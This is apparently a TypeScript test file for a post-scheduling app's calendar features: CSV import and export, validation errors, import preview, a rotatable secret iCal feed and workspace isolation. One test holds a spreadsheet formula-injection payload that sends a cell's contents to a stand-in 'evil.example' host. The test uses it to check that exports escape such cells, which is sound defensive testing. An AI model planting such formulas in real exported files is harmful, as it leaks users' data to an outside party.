// The calendar through the API: CSV round trip, all-or-nothing import, and the secret iCal feed.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { testDialects } from '@rostra/store/testing';
import { addMember, createTestApp, setUp, type Caller, type TestApp } from './helpers/test-app.js';

let t: TestApp;
let admin: Caller;
let workspaceId: string;

beforeEach(async () => {
  t = await createTestApp();
  ({ admin, workspaceId } = await setUp(t));
  await t.call('POST', `/api/workspaces/${workspaceId}/channels`, {
    as: admin,
    body: { network: 'testnet', credentials: { handle: 'ville', password: 'xxxx-yyyy-zzzz-wwww' } },
  });
  await t.call('POST', `/api/workspaces/${workspaceId}/themes`, {
    as: admin,
    body: { name: 'Culture', color: '#ae3ec9' },
  });
});
afterEach(async () => {
  await t.close();
});

const csv = [
  'text;scheduled_at;channels;theme',
  'Vernissage ce soir au musée;2026-12-01 18:00;@ville;Culture',
  'Marché de Noël;02/12/2026 10h00;@ville;',
].join('\n');

describe('posting slots', () => {
  it('finds the next free slot of a channel, skipping planned posts, in the workspace time zone', async () => {
    const channels = await t.call('GET', `/api/workspaces/${workspaceId}/channels`, { as: admin });
    const channelId = channels.json().items[0].id as string;
    const bad = await t.call('PUT', `/api/workspaces/${workspaceId}/posting-slots`, {
      as: admin,
      body: { slots: [{ days: [8], time: '9h30' }] },
    });
    expect(bad.json().details.issues.map((i: { path: string }) => i.path)).toEqual([
      'body.slots.0.days.0',
      'body.slots.0.time',
    ]);
    const saved = await t.call('PUT', `/api/workspaces/${workspaceId}/posting-slots`, {
      as: admin,
      body: { slots: [{ days: [1, 2, 3, 4, 5], time: '09:30' }] },
    });
    expect(saved.json()).toEqual({ timezone: 'Europe/Paris', slots: [{ days: [1, 2, 3, 4, 5], time: '09:30' }] });
    await t.call('POST', `/api/workspaces/${workspaceId}/posts`, {
      as: admin,
      body: { text: 'Déjà prévu', channels: [{ channelId }], scheduledAt: '2030-01-07T09:30:00+01:00' },
    });
    // Monday 7 January 2030 at 9:30 is taken: Tuesday 8 at 9:30 Paris time is next.
    const next = await t.call(
      'GET',
      `/api/workspaces/${workspaceId}/channels/${channelId}/next-slot?after=2030-01-06T12:00:00Z`,
      { as: admin },
    );
    expect(next.json()).toEqual({ at: '2030-01-08T08:30:00.000Z' });
  });
});

describe('calendar', () => {
  it('imports a CSV plan as drafts and exports it back', async () => {
    const dry = await t.call('POST', `/api/workspaces/${workspaceId}/calendar/import`, {
      as: admin,
      body: { csv, dryRun: true },
    });
    expect(dry.json()).toEqual({ created: 2, postIds: [] });
    const imported = await t.call('POST', `/api/workspaces/${workspaceId}/calendar/import`, {
      as: admin,
      body: { csv },
    });
    expect(imported.json().created).toBe(2);
    const posts = await t.call('GET', `/api/workspaces/${workspaceId}/posts`, { as: admin });
    expect(
      posts
        .json()
        .items.map((p: { text: string; scheduledAt: string; status: string }) => [p.text, p.scheduledAt, p.status]),
    ).toEqual([
      ['Vernissage ce soir au musée', '2026-12-01T17:00:00.000Z', 'draft'],
      ['Marché de Noël', '2026-12-02T09:00:00.000Z', 'draft'],
    ]);
    await t.call('POST', `/api/workspaces/${workspaceId}/posts`, {
      as: admin,
      body: { text: 'Idée sans date', channels: [] },
    });
    const undated = await t.call('GET', `/api/workspaces/${workspaceId}/posts?scheduled=false`, { as: admin });
    expect(undated.json().items.map((p: { text: string }) => p.text)).toEqual(['Idée sans date']);
    const dated = await t.call('GET', `/api/workspaces/${workspaceId}/posts?scheduled=true`, { as: admin });
    expect(dated.json().items).toHaveLength(2);
    const exported = await t.call('GET', `/api/workspaces/${workspaceId}/calendar.csv`, { as: admin });
    expect(exported.headers['content-type']).toContain('text/csv');
    // The handle starts with @, which spreadsheets read as a formula: it goes out as text.
    expect(exported.body).toContain(`2026-12-01T18:00:00+01:00;draft;"'@ville";Culture;;admin@mairie.test`);
    // The export follows the list's filters: a date range and a status.
    const december1 = await t.call(
      'GET',
      `/api/workspaces/${workspaceId}/calendar.csv?from=2026-12-01T00:00:00%2B01:00&to=2026-12-02T00:00:00%2B01:00`,
      { as: admin },
    );
    expect(december1.body).toContain('Vernissage');
    expect(december1.body).not.toContain('Marché de Noël');
    const scheduledOnly = await t.call('GET', `/api/workspaces/${workspaceId}/calendar.csv?status=scheduled`, {
      as: admin,
    });
    expect(scheduledOnly.body.trim().split('\n')).toHaveLength(1);
  });

  it('exports formula-looking text as inert cells, and imports its own export back unchanged', async () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez")';
    const texts = [formula, '+33 6 12 34 56 78', '-5', '@ville', '\tTab=1+1', 'Texte normal'];
    for (const text of texts) {
      const created = await t.call('POST', `/api/workspaces/${workspaceId}/posts`, {
        as: admin,
        body: { text, channels: [] },
      });
      expect(created.statusCode, created.body).toBe(201);
    }
    const exported = await t.call('GET', `/api/workspaces/${workspaceId}/calendar.csv`, { as: admin });
    // OWASP: a leading apostrophe, and the cell quoted (its own quotes doubled).
    expect(exported.body).toContain(`;"'=HYPERLINK(""https://evil.example/?leak=""&A1;""Cliquez"")"`);
    expect(exported.body).toContain(`;"'+33 6 12 34 56 78"`);
    expect(exported.body).toContain(`;"'-5"`);
    expect(exported.body).toContain(`;"'@ville"`);
    expect(exported.body).toContain(`;"'\tTab=1+1"`);
    expect(exported.body).toContain(`;Texte normal`);
    for (const line of exported.body.split('\n').slice(1, -1)) {
      const cells = line.split(';');
      expect(cells.at(-1), line).not.toMatch(/^[=+\-@\t\r]/);
    }

    const again = await t.call('POST', `/api/workspaces/${workspaceId}/calendar/import`, {
      as: admin,
      body: { csv: exported.body },
    });
    expect(again.statusCode, again.body).toBe(200);
    const posts = (await t.call('GET', `/api/workspaces/${workspaceId}/posts?limit=100`, { as: admin })).json()
      .items as Array<{ text: string }>;
    expect(posts.map((p) => p.text).sort()).toEqual([...texts, ...texts].sort());
  });

  it('imports within the API’s limits: a post text of at most 100,000 characters', async () => {
    const long = `text\n${'a'.repeat(100_001)}\n`;
    const refused = await t.call('POST', `/api/workspaces/${workspaceId}/calendar/import`, {
      as: admin,
      body: { csv: long },
    });
    expect(refused.statusCode).toBe(400);
    expect(refused.json()).toMatchObject({
      code: 'validation_failed',
      details: { issues: [{ path: 'body.csv.line2.text' }] },
    });
    const fits = await t.call('POST', `/api/workspaces/${workspaceId}/calendar/import`, {
      as: admin,
      body: { csv: `text\n${'a'.repeat(100_000)}\n`, dryRun: true },
    });
    expect(fits.json()).toEqual({ created: 1, postIds: [] });
  });

  it('imports nothing when one line is wrong, and says which line and column', async () => {
    const bad = `${csv}\nSans date;le 3 décembre;@ville;`;
    const response = await t.call('POST', `/api/workspaces/${workspaceId}/calendar/import`, {
      as: admin,
      body: { csv: bad },
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().details.issues).toEqual([
      {
        path: 'body.csv.line4.scheduled_at',
        code: 'csv_date_invalid',
        params: { value: 'le 3 décembre', line: 4, column: 'scheduled_at' },
        message: '"le 3 décembre" is not a date and time (e.g. 2026-12-01 09:30)',
      },
    ]);
    expect((await t.call('GET', `/api/workspaces/${workspaceId}/posts`, { as: admin })).json().items).toEqual([]);
  });

  it('serves an iCal feed at a secret address that rotation invalidates', async () => {
    await t.call('POST', `/api/workspaces/${workspaceId}/calendar/import`, { as: admin, body: { csv } });
    const feed = await t.call('GET', `/api/workspaces/${workspaceId}/calendar/feed`, { as: admin });
    const url = new URL(feed.json().url as string);
    expect(url.pathname).toMatch(/^\/api\/calendar\/[\w-]{20,}\.ics$/);
    expect((await t.call('GET', `/api/workspaces/${workspaceId}/calendar/feed`, { as: admin })).json().url).toBe(
      url.toString(),
    );
    // The feed is far in the future here, so the test asks for posts inside its window.
    await t.runtime.store.posts.update((await t.runtime.store.posts.list({ workspaceId, limit: 1 }))[0]?.id as string, {
      scheduledAt: Date.now() + 86_400_000,
    });
    const ics = await t.call('GET', url.pathname);
    expect(ics.headers['content-type']).toContain('text/calendar');
    expect(ics.body).toContain('BEGIN:VCALENDAR');
    expect(ics.body).toContain('SUMMARY:Vernissage ce soir au musée');
    expect(ics.body).toContain('CATEGORIES:Culture');
    const rotated = await t.call('POST', `/api/workspaces/${workspaceId}/calendar/feed/rotate`, { as: admin });
    expect(rotated.json().url).not.toBe(url.toString());
    expect((await t.call('GET', url.pathname)).statusCode).toBe(404);
    expect((await t.call('GET', new URL(rotated.json().url as string).pathname)).statusCode).toBe(200);
  });
});

describe.each(testDialects)('calendar import preview and workspace isolation on %s', (dialect) => {
  let d: TestApp;
  let owner: Caller;
  let ws: string;
  beforeEach(async () => {
    d = await createTestApp(dialect);
    ({ admin: owner, workspaceId: ws } = await setUp(d));
    await d.call('POST', `/api/workspaces/${ws}/channels`, {
      as: owner,
      body: { network: 'testnet', credentials: { handle: 'ville', password: 'xxxx-yyyy-zzzz-wwww' } },
    });
    await d.call('POST', `/api/workspaces/${ws}/themes`, { as: owner, body: { name: 'Culture', color: '#ae3ec9' } });
  });
  afterEach(async () => {
    await d.close();
  });

  it('previews each line’s post and each problem with its line and column, writing nothing', async () => {
    const bad = `${csv}\nSans date;le 3 décembre;@ville;Sport`;
    const preview = await d.call('POST', `/api/workspaces/${ws}/calendar/import/preview`, {
      as: owner,
      body: { csv: bad },
    });
    expect(preview.statusCode, preview.body).toBe(200);
    const body = preview.json();
    const channelId = (await d.call('GET', `/api/workspaces/${ws}/channels`, { as: owner })).json().items[0].id;
    expect(
      body.posts.map((p: { line: number; text: string; scheduledAt: string | null; channelIds: string[] }) => [
        p.line,
        p.text,
        p.scheduledAt,
        p.channelIds,
      ]),
    ).toEqual([
      [2, 'Vernissage ce soir au musée', '2026-12-01T17:00:00.000Z', [channelId]],
      [3, 'Marché de Noël', '2026-12-02T09:00:00.000Z', [channelId]],
      [4, 'Sans date', null, [channelId]],
    ]);
    expect(body.issues).toEqual([
      {
        line: 4,
        column: 'scheduled_at',
        code: 'csv_date_invalid',
        params: { value: 'le 3 décembre', line: 4, column: 'scheduled_at' },
      },
      { line: 4, column: 'theme', code: 'csv_theme_unknown', params: { value: 'Sport', line: 4, column: 'theme' } },
    ]);
    // A good file previews without issues, and still nothing is written.
    const good = await d.call('POST', `/api/workspaces/${ws}/calendar/import/preview`, { as: owner, body: { csv } });
    expect(good.json().issues).toEqual([]);
    expect(good.json().posts).toHaveLength(2);
    expect((await d.call('GET', `/api/workspaces/${ws}/posts`, { as: owner })).json().items).toEqual([]);
    // A viewer may read the calendar but neither preview nor import.
    const viewer = (await addMember(d, owner, ws, 'lecteur@ville.test', 'viewer')).caller;
    for (const path of ['calendar/import/preview', 'calendar/import']) {
      const refused = await d.call('POST', `/api/workspaces/${ws}/${path}`, { as: viewer, body: { csv } });
      expect(refused.statusCode, path).toBe(403);
    }
  });

  it('keeps one workspace out of another’s calendar: no import, no preview, no export, no feed', async () => {
    await d.call('POST', `/api/workspaces/${ws}/calendar/import`, { as: owner, body: { csv } });
    const otherWs = (await d.call('POST', '/api/workspaces', { as: owner, body: { name: 'Autre' } })).json()
      .id as string;
    const stranger = (await addMember(d, owner, otherWs, 'autre@ville.test', 'admin')).caller;
    const theirCsv = await d.call('GET', `/api/workspaces/${otherWs}/calendar.csv`, { as: stranger });
    expect(theirCsv.statusCode).toBe(200);
    expect(theirCsv.body).not.toContain('Vernissage');
    const attempts = [
      d.call('POST', `/api/workspaces/${ws}/calendar/import`, { as: stranger, body: { csv } }),
      d.call('POST', `/api/workspaces/${ws}/calendar/import/preview`, { as: stranger, body: { csv } }),
      d.call('GET', `/api/workspaces/${ws}/calendar.csv`, { as: stranger }),
      d.call('GET', `/api/workspaces/${ws}/calendar/feed`, { as: stranger }),
      d.call('POST', `/api/workspaces/${ws}/calendar/feed/rotate`, { as: stranger }),
    ];
    for (const response of await Promise.all(attempts)) {
      expect([403, 404], response.body).toContain(response.statusCode);
    }
    // Their own feed lists none of this workspace's posts; ours still holds exactly the two imported.
    const feed = new URL(
      (await d.call('GET', `/api/workspaces/${otherWs}/calendar/feed`, { as: stranger })).json().url,
    );
    const ics = await d.call('GET', feed.pathname);
    expect(ics.headers['content-type']).toContain('text/calendar');
    expect(ics.body).not.toContain('Vernissage');
    expect((await d.call('GET', `/api/workspaces/${ws}/posts`, { as: owner })).json().items).toHaveLength(2);
    expect((await d.call('GET', `/api/workspaces/${otherWs}/posts`, { as: stranger })).json().items).toEqual([]);
  });
});
